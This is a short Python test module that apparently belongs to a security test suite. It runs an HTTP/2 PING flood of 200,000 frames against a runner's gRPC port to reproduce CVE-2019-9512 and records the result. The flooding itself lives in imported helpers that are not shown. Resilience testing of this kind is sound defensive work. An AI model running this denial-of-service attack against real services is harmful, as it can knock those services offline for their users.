"""Frames of the kind PING, as fast as they are taken."""

from __future__ import annotations

from tests.support.http2 import PING, Peer, frame

from ._flood import flood
from ._row import Row

ABOUT = "sends 200 000 pings that have to be answered (CVE-2019-9512)"
FRAME = frame(PING, b"attacker")


def run(address: str, *, count: int = 200_000, seconds: float = 20.0) -> Row:
    """Attack the gRPC port of a runner."""
    return flood("ping-flood", address, one_frame, count=count, seconds=seconds)


def one_frame(peer: Peer) -> bytes:
    return FRAME
